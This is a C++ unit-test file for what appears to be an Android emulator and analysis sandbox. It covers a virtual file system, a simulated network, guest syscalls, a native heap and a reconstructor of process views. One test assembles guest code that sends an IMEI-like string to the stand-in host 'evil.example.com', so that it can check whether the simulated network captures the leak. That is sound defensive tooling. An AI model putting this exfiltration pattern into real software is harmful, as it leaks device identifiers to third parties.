#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "arm/assembler.h"
#include "os/kernel.h"
#include "os/view_reconstructor.h"

namespace ndroid::os {
namespace {

class OsFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr GuestAddr kData = 0x20000;

  OsFixture() : cpu_(mem_, map_), kernel_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("data", kData, 0x4000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
    kernel_.attach(cpu_);
  }

  u32 run(arm::Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
  Kernel kernel_;
};

TEST(Vfs, CreateWriteRead) {
  Vfs vfs;
  EXPECT_FALSE(vfs.exists("/sdcard/x"));
  const u8 data[] = {'h', 'i'};
  vfs.write_at("/sdcard/x", 0, data);
  EXPECT_TRUE(vfs.exists("/sdcard/x"));
  EXPECT_EQ(vfs.content_str("/sdcard/x"), "hi");
  u8 buf[2];
  EXPECT_EQ(vfs.read_at("/sdcard/x", 0, buf), 2u);
  EXPECT_EQ(vfs.read_at("/sdcard/x", 2, buf), 0u);
}

TEST(Vfs, SparseWriteZeroFills) {
  Vfs vfs;
  const u8 data[] = {'z'};
  vfs.write_at("/f", 4, data);
  EXPECT_EQ(vfs.size("/f"), 5u);
  EXPECT_EQ(vfs.content("/f")[0], 0);
  EXPECT_EQ(vfs.content("/f")[4], 'z');
}

TEST(Network, ConnectAndSendRecordsPackets) {
  Network net;
  const int s = net.create_socket();
  net.connect(s, "info.3g.qq.com", 80);
  const u8 payload[] = {'G', 'E', 'T'};
  net.send(s, payload);
  ASSERT_EQ(net.packets().size(), 1u);
  EXPECT_EQ(net.packets()[0].dest_host, "info.3g.qq.com");
  EXPECT_EQ(net.packets()[0].payload_str(), "GET");
  EXPECT_EQ(net.bytes_sent_to("info.3g.qq.com"), "GET");
  EXPECT_EQ(net.bytes_sent_to("other.host"), "");
}

TEST(Network, SendOnUnconnectedThrows) {
  Network net;
  const int s = net.create_socket();
  const u8 b[] = {1};
  EXPECT_THROW(net.send(s, b), GuestFault);
}

TEST(Network, RecvQueue) {
  Network net;
  const int s = net.create_socket();
  net.queue_recv(s, {'a', 'b', 'c'});
  u8 buf[2];
  EXPECT_EQ(net.recv(s, buf), 2u);
  EXPECT_EQ(buf[0], 'a');
  EXPECT_EQ(net.recv(s, buf), 1u);
  EXPECT_EQ(buf[0], 'c');
  EXPECT_EQ(net.recv(s, buf), 0u);
}

TEST_F(OsFixture, HostFdRoundTrip) {
  const int fd = kernel_.open_file("/sdcard/notes.txt", kOpenWrite);
  const u8 data[] = {'l', 'e', 'a', 'k'};
  EXPECT_EQ(kernel_.write_fd(fd, data), 4u);
  kernel_.close_fd(fd);

  const int rfd = kernel_.open_file("/sdcard/notes.txt", kOpenRead);
  u8 buf[4];
  EXPECT_EQ(kernel_.read_fd(rfd, buf), 4u);
  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 4), "leak");
}

TEST_F(OsFixture, OpenMissingFileForReadFails) {
  EXPECT_EQ(kernel_.open_file("/nope", kOpenRead), -1);
}

TEST_F(OsFixture, GuestSyscallWriteFile) {
  // Guest: fd = open("/sdcard/f", WR); write(fd, buf, 5); close(fd); exit(0)
  mem_.write_cstr(kData, "/sdcard/f");
  mem_.write_cstr(kData + 0x100, "hello");
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(0), kData);
  a.mov_imm(R(1), kOpenWrite);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kOpen));
  a.svc(0);
  a.mov(R(4), R(0));  // fd
  a.mov_imm32(R(1), kData + 0x100);
  a.mov_imm(R(2), 5);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kWrite));
  a.svc(0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(7), static_cast<u32>(Sys::kClose));
  a.svc(0);
  a.ret();
  run(a);
  EXPECT_EQ(kernel_.vfs().content_str("/sdcard/f"), "hello");
}

TEST_F(OsFixture, GuestSyscallSocketSend) {
  mem_.write_cstr(kData, "evil.example.com");
  mem_.write_cstr(kData + 0x100, "imei=35391805");
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(7), static_cast<u32>(Sys::kSocket));
  a.svc(0);
  a.mov(R(4), R(0));
  a.mov_imm32(R(1), kData);
  a.mov_imm(R(2), 80);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kConnect));
  a.svc(0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), kData + 0x100);
  a.mov_imm(R(2), 13);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kSend));
  a.svc(0);
  a.ret();
  run(a);
  EXPECT_EQ(kernel_.network().bytes_sent_to("evil.example.com"),
            "imei=35391805");
}

TEST_F(OsFixture, SyscallObserverSeesEvents) {
  std::vector<Sys> seen;
  kernel_.set_syscall_observer(
      [&](const SyscallEvent& ev) { seen.push_back(ev.number); });
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(7), static_cast<u32>(Sys::kGetpid));
  a.svc(0);
  a.ret();
  run(a);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0], Sys::kGetpid);
}

TEST_F(OsFixture, ExitStopsGuest) {
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm(R(0), 7);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kExit));
  a.svc(0);
  a.mov_imm(R(0), 99);  // must not execute
  a.ret();
  EXPECT_EQ(run(a), 7u);
  EXPECT_TRUE(kernel_.exited());
  EXPECT_EQ(kernel_.exit_code(), 7u);
}

TEST_F(OsFixture, MmapCarvesDistinctRanges) {
  const GuestAddr a1 = kernel_.mmap_anonymous(0x1000);
  const GuestAddr a2 = kernel_.mmap_anonymous(0x800);
  EXPECT_NE(a1, a2);
  EXPECT_GE(a2, a1 + 0x1000);
}

TEST(NativeHeap, SmallBlocksShareAPagePerSizeClass) {
  NativeHeap heap(0x30000000, 0x100000);
  const GuestAddr a = heap.alloc(1);
  const GuestAddr b = heap.alloc(16);
  const GuestAddr c = heap.alloc(17);  // next class: its own page
  const GuestAddr d = heap.alloc(32);
  EXPECT_EQ(b, a + 16);
  EXPECT_EQ(d, c + 32);
  EXPECT_EQ(c % NativeHeap::kPageSize, 0u);
  EXPECT_NE(c / NativeHeap::kPageSize, a / NativeHeap::kPageSize);
  EXPECT_EQ(heap.block_size(a), 16u);
  EXPECT_EQ(heap.block_size(c), 32u);
  EXPECT_EQ(heap.block_size(heap.alloc(0)), 16u);
  EXPECT_EQ(heap.block_size(heap.alloc(NativeHeap::kMaxSmall)),
            NativeHeap::kMaxSmall);
  EXPECT_EQ(heap.block_size(a + 4), 0u);  // interior
  EXPECT_EQ(heap.block_size(0x1000), 0u);  // foreign
  // 256 16-byte blocks fill one page.
  for (u32 i = 0; i < 253; ++i) heap.alloc(16);
  EXPECT_EQ(heap.alloc(16) % NativeHeap::kPageSize, 0u);
  EXPECT_EQ(heap.live_blocks(), 260u);
}

TEST(NativeHeap, FreedBlocksComeBackLastInFirstOut) {
  NativeHeap heap(0x30000000, 0x100000);
  const GuestAddr a = heap.alloc(40);
  const GuestAddr b = heap.alloc(48);
  heap.free(a);
  heap.free(b);
  EXPECT_EQ(heap.block_size(a), 0u);
  EXPECT_EQ(heap.alloc(33), b);
  EXPECT_EQ(heap.alloc(48), a);
  EXPECT_EQ(heap.live_blocks(), 2u);
}

TEST(NativeHeap, BadFreesAreIgnored) {
  NativeHeap heap(0x30000000, 0x100000);
  const GuestAddr a = heap.alloc(64);
  heap.free(a);
  heap.free(a);           // double free
  heap.free(a + 16);      // interior
  heap.free(0);           // NULL
  heap.free(0x20000000);  // foreign
  heap.free(heap.map_pages(100));  // mapped, not a block
  EXPECT_EQ(heap.live_blocks(), 0u);
  const GuestAddr b = heap.alloc(64);
  EXPECT_EQ(b, a);
  EXPECT_NE(heap.alloc(64), a);  // a went on the free list once
}

TEST(NativeHeap, LargeBlocksTakeWholePagesAndAreReusedByPageCount) {
  NativeHeap heap(0x30000000, 0x100000);
  const GuestAddr a = heap.alloc(NativeHeap::kMaxSmall + 1);
  const GuestAddr b = heap.alloc(3 * NativeHeap::kPageSize);
  EXPECT_EQ(a % NativeHeap::kPageSize, 0u);
  EXPECT_EQ(heap.block_size(a), NativeHeap::kPageSize);
  EXPECT_EQ(heap.block_size(b), 3 * NativeHeap::kPageSize);
  EXPECT_EQ(heap.block_size(b + NativeHeap::kPageSize), 0u);
  EXPECT_EQ(b, a + NativeHeap::kPageSize);
  heap.free(a);
  heap.free(b);
  const u32 mapped = heap.mapped_bytes();
  EXPECT_EQ(heap.alloc(2 * NativeHeap::kPageSize + 1), b);
  EXPECT_EQ(heap.alloc(4000), a);
  EXPECT_EQ(heap.mapped_bytes(), mapped);
}

TEST(NativeHeap, ExhaustionFaults) {
  NativeHeap heap(0x30000000, 4 * NativeHeap::kPageSize);
  EXPECT_THROW(heap.alloc(0xFFFFFFFFu), GuestFault);
  EXPECT_THROW(heap.alloc(5 * NativeHeap::kPageSize), GuestFault);
  heap.alloc(16);
  heap.alloc(4 * NativeHeap::kPageSize - 4096);
  EXPECT_THROW(heap.alloc(32), GuestFault);
  EXPECT_NO_THROW(heap.alloc(16));  // its class's page still has room
}

TEST_F(OsFixture, ViewReconstructorParsesGuestStructs) {
  const u32 pid = kernel_.create_process("com.tencent.qq");
  kernel_.map_region(pid, {"libdvm.so", 0x40000000, 0x40010000, mem::kRX});
  kernel_.map_region(pid, {"libtccsync.so", 0x50000000, 0x50004000, mem::kRX});
  const u32 pid2 = kernel_.create_process("system_server");
  kernel_.map_region(pid2, {"libandroid.so", 0x60000000, 0x60001000, mem::kRX});

  // The reconstructor sees ONLY guest memory.
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  ASSERT_EQ(views.size(), 2u);

  const ProcessView* qq = recon.find_process(views, "com.tencent.qq");
  ASSERT_NE(qq, nullptr);
  EXPECT_EQ(qq->pid, pid);
  ASSERT_EQ(qq->regions.size(), 2u);
  EXPECT_EQ(qq->regions[0].name, "libdvm.so");
  EXPECT_EQ(qq->module_of(0x50000123), "libtccsync.so");
  EXPECT_EQ(qq->module_of(0x12345), "<unmapped>");
  const RegionView* dvm = qq->find_module("libdvm.so");
  ASSERT_NE(dvm, nullptr);
  EXPECT_EQ(dvm->start, 0x40000000u);
  EXPECT_EQ(dvm->end, 0x40010000u);

  const ProcessView* sys = recon.find_process(views, "system_server");
  ASSERT_NE(sys, nullptr);
  EXPECT_EQ(sys->pid, pid2);
}

TEST_F(OsFixture, ViewReconstructorTracksUpdates) {
  const u32 pid = kernel_.create_process("app");
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 0u);
  kernel_.map_region(pid, {"libfoo.so", 0x50000000, 0x50001000, mem::kRX});
  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 1u);
}

TEST(KernelStructs, AppendsAndRebuildsMatchALayoutWrittenOnce) {
  // create_process and a mapping into the last process append in place; a
  // mapping back into an earlier process lays everything out again. Either
  // way the kernel area, the reconstructed view and the /proc texts must
  // equal those of a kernel that saw each process's final region list in
  // one go.
  mem::AddressSpace mem;
  mem::MemoryMap map;
  Kernel kernel(mem, map);
  const u32 first = kernel.create_process("com.example.first.app");
  // Names of every length mod 4, so name padding is exercised.
  const char* names[] = {"a", "libdvm.so", "libc.so", "libm.so", "x.so",
                         "libcase1p.so", "[native-stack]"};
  GuestAddr at = 0x40000000;
  for (const char* n : names) {
    kernel.map_region(first, {n, at, at + 0x1000, mem::kRX});
    at += 0x2000;
  }
  const u32 second = kernel.create_process("system_server");
  kernel.map_region(second, {"libandroid.so", 0x60000000, 0x60001000, mem::kRW});
  kernel.map_region(first, {"libl8.so", 0x50000000, 0x50003000, mem::kRWX});
  kernel.map_region(second, {"libbinder.so", 0x61000000, 0x61002000, mem::kRX});
  kernel.map_region(first, {"libafter.so", 0x52000000, 0x52001000, mem::kRX});

  mem::AddressSpace fresh_mem;
  mem::MemoryMap fresh_map;
  Kernel fresh(fresh_mem, fresh_map);
  for (const Process& p : kernel.processes()) {
    ASSERT_EQ(fresh.create_process(p.name), p.pid);
    for (const mem::Region& r : p.regions) fresh.map_region(p.pid, r);
  }

  std::vector<u8> got(Kernel::kKernelSize);
  std::vector<u8> want(Kernel::kKernelSize);
  mem.read_bytes(Kernel::kKernelBase, got);
  fresh_mem.read_bytes(Kernel::kKernelBase, want);
  EXPECT_EQ(got, want);

  const auto views = ViewReconstructor(mem, Kernel::kTaskRoot).reconstruct();
  const auto fresh_views =
      ViewReconstructor(fresh_mem, Kernel::kTaskRoot).reconstruct();
  ASSERT_EQ(views.size(), 2u);
  ASSERT_EQ(fresh_views.size(), 2u);
  for (std::size_t i = 0; i < views.size(); ++i) {
    const Process& p = kernel.processes()[i];
    EXPECT_EQ(views[i].pid, p.pid);
    EXPECT_EQ(views[i].name, p.name.substr(0, 15));
    EXPECT_EQ(fresh_views[i].name, views[i].name);
    ASSERT_EQ(views[i].regions.size(), p.regions.size());
    ASSERT_EQ(fresh_views[i].regions.size(), p.regions.size());
    for (std::size_t j = 0; j < p.regions.size(); ++j) {
      EXPECT_EQ(views[i].regions[j].start, p.regions[j].start);
      EXPECT_EQ(views[i].regions[j].end, p.regions[j].end);
      EXPECT_EQ(views[i].regions[j].name, p.regions[j].name);
      EXPECT_EQ(fresh_views[i].regions[j].name, p.regions[j].name);
    }
  }

  for (const u32 pid : {first, second}) {
    const std::string path = "/proc/" + std::to_string(pid) + "/maps";
    EXPECT_EQ(kernel.vfs().content_str(path), fresh.vfs().content_str(path));
  }
  const std::string self = kernel.vfs().content_str("/proc/self/maps");
  EXPECT_EQ(self, fresh.vfs().content_str("/proc/self/maps"));
  EXPECT_EQ(self, kernel.vfs().content_str(
                      "/proc/" + std::to_string(first) + "/maps"));
  EXPECT_EQ(kernel.vfs().content_str("/proc/" + std::to_string(second) +
                                     "/maps"),
            "60000000-60001000 rw-p 00000000 libandroid.so\n"
            "61000000-61002000 r-xp 00000000 libbinder.so\n");
  EXPECT_EQ(self.find("40000000-40001000 r-xp 00000000 a\n"), 0u);
  EXPECT_NE(self.find("50000000-50003000 rwxp 00000000 libl8.so\n"
                      "52000000-52001000 r-xp 00000000 libafter.so\n"),
            std::string::npos);
}

TEST_F(OsFixture, ViewReconstructorCycleGuard) {
  kernel_.create_process("app");
  // Corrupt the guest task list into a self-loop.
  const GuestAddr first = mem_.read32(Kernel::kTaskRoot);
  mem_.write32(first + 0x00, first);
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  EXPECT_THROW((void)recon.reconstruct(), GuestFault);
}

TEST_F(OsFixture, TruncatedCommIsBounded) {
  kernel_.create_process("a.very.long.package.name.exceeding.comm");
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  EXPECT_LE(views[0].name.size(), 15u);
}

}  // namespace
}  // namespace ndroid::os
